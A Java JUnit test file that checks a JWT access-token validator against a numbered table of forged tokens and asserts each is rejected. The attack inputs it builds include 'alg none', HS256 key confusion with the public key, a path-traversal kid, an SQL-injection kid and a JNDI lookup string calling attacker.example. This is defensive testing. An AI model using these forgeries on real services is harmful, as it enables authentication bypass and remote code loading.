package io.kvitt.adapters.crypto;

import static io.kvitt.domain.identity.TokenFault.AUDIENCE;
import static io.kvitt.domain.identity.TokenFault.CLAIMS;
import static io.kvitt.domain.identity.TokenFault.EXPIRED;
import static io.kvitt.domain.identity.TokenFault.FORM;
import static io.kvitt.domain.identity.TokenFault.HEADER;
import static io.kvitt.domain.identity.TokenFault.ISSUER;
import static io.kvitt.domain.identity.TokenFault.KEY;
import static io.kvitt.domain.identity.TokenFault.LENGTH;
import static io.kvitt.domain.identity.TokenFault.SIGNATURE;
import static io.kvitt.domain.identity.TokenFault.TIMES;
import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jose.jwk.RSAKey;
import com.sun.net.httpserver.HttpServer;
import io.kvitt.domain.identity.TokenFault;
import io.kvitt.domain.identity.TokenReading;
import java.lang.management.ManagementFactory;
import java.lang.management.ThreadMXBean;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicReference;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** The attack table on access tokens, row by row. Every token is signed with the right key unless its row is about that. */
class TokenAttacksTest {

    private static final ThreadMXBean CPU = ManagementFactory.getThreadMXBean();

    private static final Instant NOW = Instant.parse("2026-11-22T12:00:00Z");
    private static final long SECONDS = NOW.getEpochSecond();
    private static final SigningKey KEY_OF_OURS = Samples.KEYS.signing().current(NOW);
    private static final String KID = KEY_OF_OURS.kid();
    private static final String HEAD = "{\"alg\":\"RS256\",\"typ\":\"at+jwt\",\"kid\":\"" + KID + "\"}";
    private static final String GOOD = claims("", "");

    private final JwsAccessTokens tokens = new JwsAccessTokens(() -> Samples.KEYS, Samples.US);

    /** Good claims; a member that is named is left out, another put in. */
    private static String claims(String without, String with) {
        List<String> members = new ArrayList<>(List.of(
                "\"iss\":\"https://kvitt.example\"",
                "\"aud\":\"https://api.kvitt.example\"",
                "\"sub\":\"user_00112233-4455-6677-8899-aabbccddeeff\"",
                "\"client_id\":\"web\"",
                "\"iat\":" + (SECONDS - 60),
                "\"exp\":" + (SECONDS + 540),
                "\"jti\":\"0123456789abcdef\"",
                "\"sid\":\"ffeeddcc-bbaa-4988-9766-554433221100\"",
                "\"gen\":0",
                "\"auth_time\":" + (SECONDS - 60),
                "\"ep\":0"));
        members.removeIf(
                member -> Arrays.stream(without.split(",")).anyMatch(name -> member.startsWith("\"" + name + "\":")));
        if (!with.isEmpty()) {
            members.add(with);
        }
        return "{" + String.join(",", members) + "}";
    }

    private static String signed(String header, String payload) {
        return ForgedToken.signed(KEY_OF_OURS, header, payload);
    }

    private static String headed(String with) {
        return signed(HEAD.replace("}", "," + with + "}"), GOOD);
    }

    private static String kid(String json) {
        return signed("{\"alg\":\"RS256\",\"typ\":\"at+jwt\",\"kid\":" + json + "}", GOOD);
    }

    private static String claimed(String without, String with) {
        return signed(HEAD, claims(without, with));
    }

    @Test
    void theTokenThatAllAttacksBeginWithIsGood() {
        assertThat(tokens.read(signed(HEAD, GOOD), NOW)).isInstanceOf(TokenReading.Genuine.class);
    }

    static Stream<Arguments> attacks() throws Exception {
        List<Arguments> rows = new ArrayList<>();
        Table table = (row, token, fault) -> rows.add(Arguments.of(row, fault, token));
        algorithms(table);
        keys(table);
        headers(table);
        spellings(table);
        times(table);
        names(table);
        payloads(table);
        return rows.stream();
    }

    private interface Table {
        void row(String row, String token, TokenFault fault);
    }

    private static void algorithms(Table table) throws Exception {
        for (String none : List.of("none", "None", "nOnE")) {
            String head = HEAD.replace("RS256", none);
            String unsigned = ForgedToken.part(head) + "." + ForgedToken.part(GOOD) + ".";
            table.row("1 alg " + none + " without signature", unsigned, FORM);
            table.row("1 alg " + none + " with one", unsigned + "AAAA", HEADER);
        }
        RSAKey known = RSAKey.parse(KEY_OF_OURS.publicJwk());
        byte[] der = known.toRSAPublicKey().getEncoded();
        String pem = "-----BEGIN PUBLIC KEY-----\n"
                + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der)
                + "\n-----END PUBLIC KEY-----\n";
        String head = HEAD.replace("RS256", "HS256");
        table.row("2 HS256 with the public key as DER", ForgedToken.maced("HmacSHA256", der, head, GOOD), HEADER);
        for (String text :
                List.of(pem, KEY_OF_OURS.publicJwk(), known.getModulus().toString())) {
            byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
            table.row(
                    "2 HS256 with the public key as " + text.length() + " characters",
                    ForgedToken.maced("HmacSHA256", bytes, head, GOOD),
                    HEADER);
        }
        table.row("3 RS512 for a key of RS256", signed(HEAD.replace("RS256", "RS512"), GOOD), HEADER);
        table.row("3 PS256 for a key of RS256", signed(HEAD.replace("RS256", "PS256"), GOOD), HEADER);
        table.row("3 rs256 in lower case", signed(HEAD.replace("RS256", "rs256"), GOOD), HEADER);
    }

    private static void keys(Table table) {
        String path = "{\"alg\":\"HS256\",\"typ\":\"at+jwt\",\"kid\":\"../../dev/null\"}";
        table.row("4 kid is a path, key of zeros", ForgedToken.maced("HmacSHA256", new byte[32], path, GOOD), KEY);
        table.row("4 kid is a path, key of one zero", ForgedToken.maced("HmacSHA256", new byte[1], path, GOOD), KEY);
        table.row("5 kid with spaces", kid("\"' OR 1=1--\""), HEADER);
        table.row("5 kid that a logger would follow", kid("\"${jndi:ldap://attacker.example/x}\""), KEY);
        table.row("5 kid of 10 KB", kid("\"" + "k".repeat(10_000) + "\""), LENGTH);
        table.row("5 kid of 129 characters", kid("\"" + "k".repeat(129) + "\""), HEADER);
        table.row("5 kid of 128 characters", kid("\"" + "k".repeat(128) + "\""), KEY);
        for (String json : List.of("7", "[\"" + KID + "\"]", "null", "\"\"", "{}", "\"å\"", "\"\\n\"")) {
            table.row("5 kid " + json, kid(json), HEADER);
        }
        table.row("5 kid in another case", kid("\"" + swapped(KID) + "\""), KEY);
        table.row("6 no kid", signed("{\"alg\":\"RS256\",\"typ\":\"at+jwt\"}", GOOD), HEADER);
        SigningKey stranger = Samples.OTHER_KEYS.signing().current(NOW);
        table.row("7 signed by a stranger under our kid", ForgedToken.signed(stranger, HEAD, GOOD), SIGNATURE);
    }

    private static String swapped(String text) {
        return text.equals(text.toUpperCase(Locale.ROOT))
                ? text.toLowerCase(Locale.ROOT)
                : text.toUpperCase(Locale.ROOT);
    }

    private static void headers(Table table) {
        table.row("8 embedded jwk", headed("\"jwk\":{\"kty\":\"oct\",\"k\":\"AAAA\"}"), HEADER);
        table.row("8 embedded x5c", headed("\"x5c\":[\"AAAA\"]"), HEADER);
        table.row("9 crit exp", headed("\"crit\":[\"exp\"],\"exp\":1"), HEADER);
        table.row("9 crit b64", headed("\"crit\":[\"b64\"],\"b64\":true"), HEADER);
        table.row("9 crit empty", headed("\"crit\":[]"), HEADER);
        table.row("10 b64 false", headed("\"b64\":false"), HEADER);
        table.row("10 b64 false and critical", headed("\"crit\":[\"b64\"],\"b64\":false"), HEADER);
        table.row("11 alg twice", headed("\"alg\":\"RS256\""), HEADER);
        table.row("11 alg twice, once escaped", headed("\"\\u0061lg\":\"none\""), HEADER);
        table.row("11 sub twice", claimed("", "\"sub\":\"user_00112233-4455-6677-8899-aabbccddeeff\""), CLAIMS);
        table.row("11 exp twice", claimed("", "\"exp\":" + (SECONDS + 500)), CLAIMS);
        table.row("14 zip", headed("\"zip\":\"DEF\""), HEADER);
        table.row("14 cty", headed("\"cty\":\"JWT\""), HEADER);
        for (String typ : List.of("JWT", "application/at+jwt", "AT+JWT", "id+jwt", "")) {
            table.row("24 typ " + typ, signed(HEAD.replace("at+jwt", typ), GOOD), HEADER);
        }
        table.row("24 no typ", signed("{\"alg\":\"RS256\",\"kid\":\"" + KID + "\"}", GOOD), HEADER);
        table.row("24 typ null", signed(HEAD.replace("\"at+jwt\"", "null"), GOOD), HEADER);
        table.row("24 header of 513 bytes", signed(HEAD + " ".repeat(513 - HEAD.length()), GOOD), HEADER);
        table.row("24 header is an array", signed("[" + HEAD + "]", GOOD), HEADER);
        table.row("24 header with something behind", signed(HEAD + "{}", GOOD), HEADER);
    }

    private static void spellings(Table table) {
        String good = signed(HEAD, GOOD);
        String start = good.substring(0, good.lastIndexOf('.') + 1);
        byte[] signature = Base64Url.decode(good.substring(start.length()));
        table.row("12 signature a byte short", start + Base64Url.encode(Arrays.copyOf(signature, 255)), SIGNATURE);
        table.row("12 signature a byte long", start + Base64Url.encode(Arrays.copyOf(signature, 257)), SIGNATURE);
        table.row("12 no signature", start, FORM);
        table.row("12 signature of zeros", start + Base64Url.encode(new byte[256]), SIGNATURE);
        for (String end : List.of("?", "=", "==", "%20", "&x=1", ",", "+", "/")) {
            table.row("13 with " + end + " behind", good + end, FORM);
        }
        for (String blank : List.of("\n", " ", "\r\n", "\t", "\u0000", "\u00a0", "\u200b", "é")) {
            table.row("13 with a blank behind", good + blank, LENGTH);
            table.row("13 with a blank in front", blank + good, LENGTH);
        }
        table.row("13 in the other alphabet", start + "+/" + good.substring(start.length() + 2), FORM);
        table.row("13 with A behind", good + "A", SIGNATURE);
        table.row("13 bits that carry nothing", flipped(good), FORM);
        int dot = good.indexOf('.');
        table.row("13 header with a pad", good.substring(0, dot) + "=" + good.substring(dot), FORM);
        table.row("13 with Bearer in front", "Bearer" + good, HEADER);
        table.row("14 four parts", good + ".AAAA", FORM);
        table.row("14 two parts", good.substring(0, good.lastIndexOf('.')), FORM);
        table.row(
                "14 five parts, as an encrypted token",
                "eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0..AAAA.AAAA.AAAA",
                FORM);
        String json =
                "{\"payload\":\"" + ForgedToken.part(GOOD) + "\",\"protected\":\"" + ForgedToken.part(HEAD) + "\"}";
        table.row("14 in JSON", json, FORM);
        table.row("14 dots", ".".repeat(30), FORM);
        table.row("29 of 4,097 characters", "A".repeat(4_097), LENGTH);
        table.row("29 of a megabyte", good + "A".repeat(1_000_000), LENGTH);
        table.row("29 of 19 characters", "A".repeat(19), LENGTH);
    }

    /** The last of 342 characters carries two bits of six. */
    private static String flipped(String good) {
        char last = good.charAt(good.length() - 1);
        return good.substring(0, good.length() - 1) + (char) (last + 1);
    }

    private static void times(Table table) {
        table.row("15 exp null", claimed("exp", "\"exp\":null"), CLAIMS);
        table.row("16 exp missing", claimed("exp", ""), CLAIMS);
        String in10Minutes = String.valueOf(SECONDS + 540);
        for (String exp : List.of("\"" + in10Minutes + "\"", "true", "1e400", "-1", "0", "[" + in10Minutes + "]")) {
            table.row("16 exp " + exp, claimed("exp", "\"exp\":" + exp), CLAIMS);
        }
        for (String exp : List.of("9223372036854775807", "9223372036854775808", "9223372036854776")) {
            table.row("17 exp " + exp, claimed("exp", "\"exp\":" + exp), CLAIMS);
        }
        for (String exp : List.of("1e18", "4923072000", in10Minutes + ".75", in10Minutes + ".0", "1.8e9")) {
            table.row("18 exp " + exp, claimed("exp", "\"exp\":" + exp), CLAIMS);
        }
        table.row("18 a life of 601 seconds", claimed("exp", "\"exp\":" + (SECONDS + 541)), TIMES);
        table.row("18 an end before its beginning", claimed("exp", "\"exp\":" + (SECONDS - 61)), TIMES);
        table.row("19 ended 31 seconds ago", lived(SECONDS - 600, SECONDS - 31), EXPIRED);
        table.row("19 ended 30 seconds ago", lived(SECONDS - 600, SECONDS - 30), EXPIRED);
        table.row("20 nbf in 31 seconds", claimed("", "\"nbf\":" + (SECONDS + 31)), TIMES);
        table.row("20 nbf a text", claimed("", "\"nbf\":\"0\""), CLAIMS);
        table.row("20 nbf null", claimed("", "\"nbf\":null"), CLAIMS);
        table.row("21 iat in an hour", lived(SECONDS + 3_600, SECONDS + 4_000), TIMES);
        table.row("21 iat in 31 seconds", lived(SECONDS + 31, SECONDS + 400), TIMES);
        table.row("21 iat missing", claimed("iat", ""), CLAIMS);
    }

    private static String lived(long from, long to) {
        return claimed("iat,exp", "\"iat\":" + from + ",\"exp\":" + to);
    }

    private static void names(Table table) {
        table.row("22 aud of another", claimed("aud", "\"aud\":\"https://other.example\""), AUDIENCE);
        table.row("22 aud missing", claimed("aud", ""), CLAIMS);
        table.row("22 aud a number", claimed("aud", "\"aud\":7"), CLAIMS);
        table.row("22 aud without us", claimed("aud", "\"aud\":[\"a\",\"b\"]"), AUDIENCE);
        table.row("22 aud of none", claimed("aud", "\"aud\":[]"), CLAIMS);
        String ours = "\"https://api.kvitt.example\"";
        table.row("22 aud of five", claimed("aud", "\"aud\":[" + ours + ",\"b\",\"c\",\"d\",\"e\"]"), CLAIMS);
        table.row("22 aud of us and a number", claimed("aud", "\"aud\":[" + ours + ",7]"), CLAIMS);
        table.row("22 aud of a thousand", claimed("aud", "\"aud\":[" + ours + ",\"bb\"".repeat(1_000) + "]"), LENGTH);
        for (String iss : List.of(
                "\"https://other.example\"",
                "\"https://kvitt.example/\"",
                "\"https://KVITT.example\"",
                "[\"https://kvitt.example\"]",
                "null",
                "\"\"")) {
            table.row("23 iss " + iss, claimed("iss", "\"iss\":" + iss), ISSUER);
        }
        table.row("23 iss missing", claimed("iss", ""), ISSUER);
        for (String sub : List.of("7", "\"\"", "\"user#x\"", "null", "\"" + "u".repeat(129) + "\"")) {
            table.row("27 sub " + sub.length(), claimed("sub", "\"sub\":" + sub), CLAIMS);
        }
        table.row("27 sub of a megabyte", claimed("sub", "\"sub\":\"" + "u".repeat(1_000_000) + "\""), LENGTH);
        for (String name : List.of("jti", "client_id", "sid", "gen", "ep", "auth_time", "sub")) {
            table.row("27 " + name + " missing", claimed(name, ""), CLAIMS);
            table.row("27 " + name + " null", claimed(name, "\"" + name + "\":null"), CLAIMS);
        }
        table.row("27 sid in a shorter spelling", claimed("sid", "\"sid\":\"1-1-1-1-1\""), CLAIMS);
        table.row("27 jti with a line break", claimed("jti", "\"jti\":\"a\\nb\""), CLAIMS);
        table.row("27 gen below zero", claimed("gen", "\"gen\":-1"), CLAIMS);
        table.row("27 client_id unknown", claimed("client_id", "\"client_id\":\"WEB\""), CLAIMS);
    }

    private static void payloads(Table table) {
        String start = GOOD.substring(0, GOOD.length() - 1);
        String deep = start + ",\"x\":" + "[".repeat(1_000) + "]".repeat(1_000) + "}";
        table.row("28 a thousand deep", signed(HEAD, deep), CLAIMS);
        table.row("28 a thousand deep and not closed", signed(HEAD, "[".repeat(2_000)), CLAIMS);
        table.row("28 five thousand deep", signed(HEAD, "[".repeat(5_000)), LENGTH);
        table.row("28 five deep", signed(HEAD, start + ",\"x\":[[[[1]]]]}"), CLAIMS);
        table.row("28 a number of 2,000 digits", signed(HEAD, start + ",\"x\":" + "9".repeat(2_000) + "}"), CLAIMS);
        table.row("28 a number of 100,000 digits", signed(HEAD, start + ",\"x\":" + "9".repeat(100_000) + "}"), LENGTH);
        table.row("28 a mark in front", signed(HEAD, "\uFEFF" + GOOD), CLAIMS);
        table.row("28 a comment", signed(HEAD, start + "/* */}"), CLAIMS);
        table.row("28 something behind", signed(HEAD, GOOD + "{}"), CLAIMS);
        table.row("28 a comma too many", signed(HEAD, start + ",}"), CLAIMS);
        table.row("28 not a number", signed(HEAD, start + ",\"x\":NaN}"), CLAIMS);
        table.row("28 half a character", signed(HEAD, start + ",\"x\":\"\\ud800\"}"), CLAIMS);
        table.row("28 halves in the wrong order", signed(HEAD, start + ",\"x\":\"\\udc00\\ud800\"}"), CLAIMS);
        byte[] invalid = (start + ",\"x\":\"?\"}").getBytes(StandardCharsets.UTF_8);
        invalid[invalid.length - 3] = (byte) 0xff;
        table.row("28 invalid UTF-8", ForgedToken.signed(KEY_OF_OURS, HEAD, invalid), CLAIMS);
        table.row("28 UTF-16", ForgedToken.signed(KEY_OF_OURS, HEAD, GOOD.getBytes(StandardCharsets.UTF_16)), CLAIMS);
        table.row("28 no payload", signed(HEAD, ""), CLAIMS);
        table.row("28 an array", signed(HEAD, "[" + GOOD + "]"), CLAIMS);
        table.row("28 a text", signed(HEAD, "\"x\""), CLAIMS);
    }

    @ParameterizedTest(name = "row {0}: {1}")
    @MethodSource("attacks")
    void theGateStops(String row, TokenFault expected, String token) {
        assertThat(tokens.read(token, NOW)).isEqualTo(new TokenReading.Faulty(expected));
    }

    @ParameterizedTest(name = "row {0}: let through")
    @MethodSource
    void theGateLetsThrough(String row, String token) {
        assertThat(tokens.read(token, NOW)).isInstanceOf(TokenReading.Genuine.class);
    }

    static Stream<Arguments> theGateLetsThrough() {
        return Stream.of(
                Arguments.of("19 ended 29 seconds ago", lived(SECONDS - 600, SECONDS - 29)),
                Arguments.of("20 nbf in 30 seconds", claimed("", "\"nbf\":" + (SECONDS + 30))),
                Arguments.of("21 iat in 30 seconds", lived(SECONDS + 30, SECONDS + 400)),
                Arguments.of("22 aud of two", claimed("aud", "\"aud\":[\"x\",\"https://api.kvitt.example\"]")),
                Arguments.of("28 a claim nobody knows", claimed("", "\"x\":[[[1]]]")));
    }

    /** Time of the processor, not of the clock, and the best of five tries: what else the machine does is no matter here. */
    @ParameterizedTest(name = "row {0}: within 10 ms")
    @MethodSource("attacks")
    void noTextTakesLong(String row, TokenFault expected, String token) {
        long best = IntStream.range(0, 5)
                .mapToLong(round -> {
                    long start = CPU.getCurrentThreadCpuTime();
                    tokens.read(token, NOW);
                    return CPU.getCurrentThreadCpuTime() - start;
                })
                .min()
                .orElseThrow();
        assertThat(best).isLessThan(10_000_000);
    }

    @Test
    void row7AnAddressInTheHeaderIsNotAsked() throws Exception {
        AtomicInteger asked = new AtomicInteger();
        HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/", exchange -> {
            asked.incrementAndGet();
            exchange.sendResponseHeaders(404, -1);
            exchange.close();
        });
        server.start();
        try {
            String address = "http://127.0.0.1:" + server.getAddress().getPort() + "/keys";
            for (String name : List.of("jku", "x5u")) {
                assertThat(tokens.read(headed("\"" + name + "\":\"" + address + "\""), NOW))
                        .isEqualTo(new TokenReading.Faulty(HEADER));
            }
            assertThat(asked).hasValue(0);
        } finally {
            server.stop(0);
        }
    }

    @Test
    void row4TheNameOfAKeyIsLookedUpAsItStands() {
        List<String> asked = new ArrayList<>();
        TokenGate gate = new TokenGate(
                new TokenRules(TokenKind.ACCESS, Samples.US.issuer(), Samples.US.audience(), SigningKeys.LONGEST_TOKEN),
                (kid, now) -> {
                    asked.add(kid);
                    return Optional.empty();
                });

        assertThat(gate.open(kid("\"../../dev/null\""), NOW)).isEqualTo(Step.stopped(KEY));
        assertThat(asked).containsExactly("../../dev/null");
    }

    @Test
    void row3AKeyIsForItsOwnAlgorithmAlone() throws Exception {
        byte[] secret =
                "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef".getBytes(StandardCharsets.US_ASCII);
        BoundKey key = BoundKey.hs256(Optional.of("h"), secret);
        TokenGate gate = new TokenGate(
                new TokenRules(TokenKind.ACCESS, Samples.US.issuer(), Samples.US.audience(), SigningKeys.LONGEST_TOKEN),
                (kid, now) -> Optional.of(key));
        String head = "{\"alg\":\"HS256\",\"typ\":\"at+jwt\",\"kid\":\"h\"}";

        assertThat(gate.open(ForgedToken.maced("HmacSHA256", secret, head, GOOD), NOW))
                .isInstanceOf(Step.Through.class);
        assertThat(gate.open(signed(head.replace("HS256", "RS256"), GOOD), NOW)).isEqualTo(Step.stopped(HEADER));
        assertThat(gate.open(ForgedToken.maced("HmacSHA512", secret, head.replace("HS256", "HS512"), GOOD), NOW))
                .isEqualTo(Step.stopped(HEADER));
        assertThat(gate.open(ForgedToken.maced("HmacSHA512", secret, head, GOOD), NOW))
                .isEqualTo(Step.stopped(SIGNATURE));
    }

    /** A token that was good once is asked again for all that can change. */
    @Test
    void whatWasGoodOnceEndsWithItsTimeItsKeyAndItsLastCharacter() throws Exception {
        byte[] secret = "0123456789abcdef0123456789abcdef".getBytes(StandardCharsets.US_ASCII);
        AtomicReference<Optional<BoundKey>> key =
                new AtomicReference<>(Optional.of(BoundKey.hs256(Optional.of("h"), secret)));
        TokenGate gate = new TokenGate(
                new TokenRules(TokenKind.ACCESS, Samples.US.issuer(), Samples.US.audience(), SigningKeys.LONGEST_TOKEN),
                (kid, now) -> key.get());
        String good =
                ForgedToken.maced("HmacSHA256", secret, "{\"alg\":\"HS256\",\"typ\":\"at+jwt\",\"kid\":\"h\"}", GOOD);
        assertThat(gate.open(good, NOW)).isInstanceOf(Step.Through.class);

        assertThat(gate.open(good, NOW)).isInstanceOf(Step.Through.class);
        assertThat(gate.open(good, NOW.plus(SigningKeys.LONGEST_TOKEN).plus(Duration.ofMinutes(1))))
                .isEqualTo(Step.stopped(EXPIRED));
        char last = good.charAt(good.length() - 1);
        assertThat(gate.open(good.substring(0, good.length() - 1) + (last == 'A' ? 'E' : 'A'), NOW))
                .isEqualTo(Step.stopped(SIGNATURE));
        key.set(Optional.of(BoundKey.hs256(
                Optional.of("h"), "another key of thirty-two bytes!".getBytes(StandardCharsets.US_ASCII))));
        assertThat(gate.open(good, NOW)).isEqualTo(Step.stopped(SIGNATURE));
        key.set(Optional.empty());
        assertThat(gate.open(good, NOW)).isEqualTo(Step.stopped(KEY));
    }

    @ParameterizedTest(name = "row {0}: {1}")
    @MethodSource
    void tokensOfOneKindAreNoOther(String row, TokenFault expected, TokenKind kind, String header, String payload) {
        TokenGate gate = new TokenGate(
                new TokenRules(kind, "https://pool.example/1", "client-1", SigningKeys.LONGEST_TOKEN),
                (kid, at) -> Samples.KEYS.signing().find(kid, at, SigningKeys.LONGEST_TOKEN));

        assertThat(gate.open(signed(header, payload), NOW)).isEqualTo(Step.stopped(expected));
    }

    static Stream<Arguments> tokensOfOneKindAreNoOther() {
        String untyped = "{\"alg\":\"RS256\",\"kid\":\"" + KID + "\"}";
        String jwt = "{\"alg\":\"RS256\",\"typ\":\"JWT\",\"kid\":\"" + KID + "\"}";
        String id = pool("\"token_use\":\"id\",\"aud\":\"client-1\"");
        String access = pool("\"token_use\":\"access\",\"client_id\":\"client-1\",\"jti\":\"1\"");
        TokenKind cognito = TokenKind.COGNITO_ACCESS;
        return Stream.of(
                Arguments.of("25 an ID token of Cognito as bearer", CLAIMS, cognito, untyped, id),
                Arguments.of(
                        "25 an ID token that says it were an access token",
                        CLAIMS,
                        cognito,
                        untyped,
                        pool("\"token_use\":\"access\",\"client_id\":\"client-1\",\"jti\":\"1\",\"aud\":\"client-1\"")),
                Arguments.of(
                        "25 for another client", AUDIENCE, cognito, untyped, access.replace("client-1", "client-2")),
                Arguments.of("25 of another pool", ISSUER, cognito, untyped, access.replace("example/1", "example/2")),
                Arguments.of("25 typed", HEADER, cognito, jwt, access),
                Arguments.of("25 an access token as ID token", CLAIMS, TokenKind.COGNITO_ID, untyped, access),
                Arguments.of("25 at our gate", HEADER, TokenKind.ACCESS, untyped, access),
                Arguments.of("26 an ID token as bearer", HEADER, TokenKind.ACCESS, jwt, id),
                Arguments.of(
                        "26 an ID token for two without azp",
                        AUDIENCE,
                        TokenKind.ID,
                        jwt,
                        pool("\"aud\":[\"client-1\",\"b\"]")),
                Arguments.of(
                        "26 an ID token for azp",
                        AUDIENCE,
                        TokenKind.ID,
                        jwt,
                        pool("\"aud\":\"client-1\",\"azp\":\"b\"")),
                Arguments.of(
                        "26 an ID token with azp null",
                        AUDIENCE,
                        TokenKind.ID,
                        jwt,
                        pool("\"aud\":\"client-1\",\"azp\":null")),
                Arguments.of(
                        "26 our access token as ID token", HEADER, TokenKind.ID, HEAD, pool("\"aud\":\"client-1\"")));
    }

    private static String pool(String claims) {
        return "{\"iss\":\"https://pool.example/1\",\"sub\":\"s\",\"iat\":" + SECONDS + ",\"exp\":" + (SECONDS + 300)
                + "," + claims + "}";
    }
}
